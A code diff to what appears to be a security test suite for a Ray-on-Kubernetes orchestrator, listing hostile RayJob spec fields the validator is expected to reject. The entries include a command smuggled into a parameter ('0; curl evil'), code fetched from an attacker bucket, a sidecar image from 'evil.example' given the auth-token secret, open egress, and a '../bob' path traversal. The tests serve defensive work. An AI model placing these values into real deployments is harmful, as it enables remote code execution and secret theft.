@@ -96,6 +96,17 @@ RAYJOB_ATTACKS: dict[str, Callable[[Obj], None]] = {
     "runtime env code": set_path("spec.runtimeEnvYAML", "working_dir: s3://evil/code.zip\n"),
     "shell in rayStartParams": set_path("spec.rayClusterSpec.headGroupSpec.rayStartParams.num-cpus", "0; curl evil"),
     "LoadBalancer": set_path("spec.rayClusterSpec.headGroupSpec.serviceType", "LoadBalancer"),
+    # fields from which the operator adds to the pods or the namespace what the templates do not show
+    "Secret as the GCS Redis password": set_path("spec.rayClusterSpec.gcsFaultToleranceOptions", {
+        "redisAddress": "redis:6379",
+        "redisPassword": {"valueFrom": {"secretKeyRef": {"name": "ray-auth-token", "key": "auth_token"}}}}),
+    "shared volume as GCS storage": set_path("spec.rayClusterSpec.gcsFaultToleranceOptions", {
+        "backend": "rocksdb", "storage": {"claimName": "ray-shared", "subPath": "jobs/bob/victim"}}),
+    "operator-made egress": set_path("spec.rayClusterSpec.networkPolicy", {
+        "head": {"egressRules": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}]}}),
+    "history server sidecar": set_path("spec.rayClusterSpec.historyServerOptions", {
+        "collectorOptions": {"image": "evil.example/x:1", "envFrom": [{"secretRef": {"name": "ray-auth-token"}}]}}),
+    "another controller": set_path("spec.managedBy", "kueue.x-k8s.io/multikueue"),
     "owner with a path": set_path("metadata.annotations", {"ray-gpu-orchestrator/owner": "../bob"}),
     # one directory name on the shared volume: longer than a filesystem allows (`k8s render` refuses it too)
     "owner too long": set_path("metadata.annotations", {"ray-gpu-orchestrator/owner": "b" * 254}),
